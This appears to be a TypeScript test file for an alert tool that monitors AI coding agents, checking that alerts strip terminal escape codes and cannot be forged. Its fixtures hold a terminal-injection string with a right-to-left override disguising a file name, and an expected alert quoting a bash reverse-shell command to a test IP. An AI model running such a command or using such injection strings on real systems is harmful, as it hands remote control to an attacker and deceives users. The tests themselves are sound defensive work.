import fc from 'fast-check';
import { foldFindings } from './fold';
import { evidenceOf, findingOf } from './sample-findings';
import { alertLines, visible } from './terminal';

const evil = '\u001b]0;owned\u0007\u001b[2J\r\b\u009b31m\u202egnp.exe\u200b\nHIGH forged line';
const finding = findingOf({
  why: `bash ran ${evil}`,
  entities: { session: evil, host: evil, user: 'dev' },
  evidence: [evidenceOf({ excerpt: evil, tool: evil })],
});
const { alert } = foldFindings(undefined, [finding], 1, Date.UTC(2026, 0, 1));

test('an alert is readable without colours', () => {
  const plain = foldFindings(undefined, [findingOf({})], 1, 0).alert;
  expect(alertLines(plain, 'alert.created', false)).toBe(
    [
      ' HIGH  Reverse shell',
      '  bash connects its input and output to 203.0.113.9:4444.',
      '  by   claude-code · build-1 · session s1',
      '  saw  bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 (Bash, completed)',
      '  next Look at what ran in the shell.',
      '  reverse-shell · confidence high · 1970-01-01T00:00:01.000Z · a1',
      '',
    ].join('\n'),
  );
  expect(alertLines(plain, 'alert.escalated', false)).toContain('Reverse shell (risen)');
});

test('text of an agent cannot act on the terminal, nor make a line of its own', () => {
  const text = alertLines(alert, 'alert.created', false);
  expect(text.split('\n')).toHaveLength(7);
  expect(text).toContain('\\u{1b}]0;owned\\u{7}');
  expect(text).toContain('\\u{202e}gnp.exe');
});

test('with colours the only escapes are ours', () => {
  const text = alertLines(alert, 'alert.created', true);
  const bare = text.replace(/\u001b\[[0-9;]{1,7}m/g, '');
  expect(text).not.toBe(bare);
  expect(bare).toBe(alertLines(alert, 'alert.created', false));
});

test('nothing but one printable line comes out, whatever goes in', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), (text) => {
      expect(visible(text)).toMatch(/^[^\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]*$/u);
    }),
  );
  expect(visible('x'.repeat(10_000)).length).toBeLessThan(400);
});
